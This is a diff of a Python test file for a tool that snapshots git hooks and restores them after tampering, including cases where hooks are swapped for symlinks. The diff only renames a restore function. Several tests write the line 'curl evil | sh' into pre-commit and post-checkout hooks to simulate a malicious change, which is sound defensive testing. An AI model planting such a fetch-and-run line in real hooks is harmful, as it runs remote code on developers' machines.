@@ -27,7 +27,7 @@ def test_a_hook_edited_in_place_is_put_back_still_executable(tmp_path):
     before = fingerprint.take_files(common)
     with hook.open("a") as fh:
         fh.write("curl evil | sh\n")
-    assert fingerprint._put_back(common, before, ".git") == [".git/hooks/pre-commit"]
+    assert fingerprint.put_back_files(common, before, ".git") == [".git/hooks/pre-commit"]
     assert hook.read_text() == "#!/bin/sh\nexit 0\n" and os.access(hook, os.X_OK)
 
 
@@ -36,7 +36,7 @@ def test_a_hook_a_worker_deleted_comes_back_executable(tmp_path):
     common, hook = _hook(tmp_path, "pre-push", "#!/bin/sh\nexit 1\n", 0o750)
     before = fingerprint.take_files(common)
     hook.unlink()
-    assert fingerprint._put_back(common, before, ".git") == [".git/hooks/pre-push"]
+    assert fingerprint.put_back_files(common, before, ".git") == [".git/hooks/pre-push"]
     assert hook.stat().st_mode & 0o777 == 0o750
 
 
@@ -47,7 +47,7 @@ def test_a_hook_made_not_executable_is_seen_and_put_back(tmp_path):
     hook.chmod(0o644)
     after = fingerprint.Fingerprint(common, files=fingerprint.take_files(common))
     assert fingerprint.compare(before, after)[0] == [".git/hooks/pre-commit changed mode 755 -> 644"]
-    assert fingerprint._put_back(common, before.files, ".git") == [".git/hooks/pre-commit"]
+    assert fingerprint.put_back_files(common, before.files, ".git") == [".git/hooks/pre-commit"]
     assert hook.stat().st_mode & 0o777 == 0o755
 
 
@@ -78,7 +78,7 @@ def test_hooks_swapped_for_a_link_are_not_listed_or_put_back_through_it(tmp_path
     import shutil
     shutil.rmtree(common / "hooks")
     (common / "hooks").symlink_to(elsewhere)
-    put_back = fingerprint._put_back(common, before, ".git")
+    put_back = fingerprint.put_back_files(common, before, ".git")
     assert put_back == [".git/hooks/", ".git/hooks/pre-commit"]
     assert (elsewhere / "thesis.tex").read_text() == "years of work\n"
     assert (common / "hooks").is_dir() and not (common / "hooks").is_symlink()
@@ -189,7 +189,7 @@ def test_a_hooks_folder_of_yours_that_is_a_link_is_watched_through_it(tmp_path):
     (tmp_path / ".git" / "hooks").symlink_to(shared)
     before = fingerprint.take_files(tmp_path / ".git")
     (shared / "post-checkout").write_text("#!/bin/sh\ncurl evil | sh\n")
-    assert fingerprint._put_back(tmp_path / ".git", before, ".git") == [".git/hooks/post-checkout"]
+    assert fingerprint.put_back_files(tmp_path / ".git", before, ".git") == [".git/hooks/post-checkout"]
     assert not (shared / "post-checkout").exists() and (tmp_path / ".git" / "hooks").is_symlink()
 
 
@@ -433,7 +433,7 @@ def test_what_a_worker_put_where_a_link_of_yours_led_nowhere_is_removed(tmp_path
     (common / "hooks" / "pre-commit").symlink_to(tmp_path / "mine" / "pre-commit")
     before = fingerprint.take_files(common)
     (tmp_path / "mine" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
-    assert fingerprint._put_back(common, before, ".git") == [".git/hooks/pre-commit"]
+    assert fingerprint.put_back_files(common, before, ".git") == [".git/hooks/pre-commit"]
     assert not (tmp_path / "mine" / "pre-commit").exists()
 
 
@@ -450,7 +450,7 @@ def test_hooks_of_yours_linked_into_home_and_re_pointed_further_on_remove_nothin
     (tmp_path / "thesis" / "main.tex").write_text("years of work\n")
     os.rename(tmp_path / "dotfiles" / "hooks", tmp_path / "aside")
     (tmp_path / "dotfiles" / "hooks").symlink_to(tmp_path / "thesis")
-    put_back = fingerprint._put_back(common, before, ".git")
+    put_back = fingerprint.put_back_files(common, before, ".git")
     assert put_back == [f".git/hooks/{fingerprint.NOT_PUT_BACK}it leads elsewhere than when it was watched)"]
     assert sorted(os.listdir(tmp_path / "thesis")) == ["main.tex"]
 
